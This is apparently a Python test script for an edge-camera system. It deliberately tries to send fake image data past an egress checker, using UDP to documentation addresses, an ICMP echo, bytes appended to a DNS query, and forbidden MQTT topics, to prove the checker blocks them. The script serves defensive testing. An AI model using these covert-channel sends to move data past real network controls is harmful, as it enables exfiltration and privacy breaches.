"""Sends what no unit may send, from the unit's side: a checker that does not see it proves nothing.

`python -m tests.prove.smuggler TENANT STORE UNIT`
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import sys

import paho.mqtt.client as mqtt
from paho.mqtt.enums import CallbackAPIVersion
from paho.mqtt.packettypes import PacketTypes
from paho.mqtt.properties import Properties

from edge_agent.records import topic
from tests.prove.namespaces import BROKER, BROKER_NAME, BROKER_PORT, NAMES

# Addresses for documentation: nobody's.
ELSEWHERE, ELSEWHERE_6 = "198.51.100.7", "2001:db8::7"
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + bytes(400) + b"\xff\xd9"
_PATIENCE_S = 5.0


def main() -> int:
    """Smuggle everything once."""
    _packets()
    _names()
    _telemetry(topic(*sys.argv[1:4], ""))
    return 0


def _packets() -> None:
    """To addresses and ports that are not on the list."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as four:
        four.sendto(JPEG, (ELSEWHERE, 9999))
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as six:
        six.sendto(JPEG, (ELSEWHERE_6, 9999))
    for where in ((ELSEWHERE, 443), (str(BROKER), BROKER_PORT + 1)):
        with contextlib.suppress(OSError), socket.create_connection(where, _PATIENCE_S):
            pass
    echo = struct.pack("!BBHHH", 8, 0, 0, 0, 0) + JPEG[:40]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.sendto(echo, (str(BROKER), 0))


def _names() -> None:
    """Another name, and a query with something behind its question."""
    with contextlib.suppress(OSError):
        socket.getaddrinfo("pictures.shop.test", 443)
    labels = b"".join(bytes((len(part),)) + part.encode() for part in BROKER_NAME.split("."))
    query = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + b"\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as four:
        four.sendto(query + JPEG[:40], (str(NAMES), 53))


def _telemetry(mine: str) -> None:
    """To the broker itself."""
    with _client("a-camera") as client:
        client.publish(f"{mine}counts", JPEG, 1).wait_for_publish(_PATIENCE_S)
        boxed = {"v": 1, "unit": "u", "session": 1, "online": True, "box": [0.1, 0.2, 0.3, 0.4]}
        text = json.dumps(boxed, separators=(",", ":"))
        client.publish(f"{mine}state", text, 1, retain=True).wait_for_publish(_PATIENCE_S)
        client.publish(f"{mine}picture", JPEG, 1).wait_for_publish(_PATIENCE_S)
        noted = Properties(PacketTypes.PUBLISH)
        noted.UserProperty = [("track", "7")]
        done = client.publish(f"{mine}health", b"{}", 0, properties=noted)
        done.wait_for_publish(_PATIENCE_S)


@contextlib.contextmanager
def _client(name: str):
    client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=name, protocol=mqtt.MQTTv5)
    client.connect(str(BROKER), BROKER_PORT)
    client.loop_start()
    try:
        yield client
    finally:
        client.disconnect()
        client.loop_stop()


if __name__ == "__main__":
    sys.exit(main())
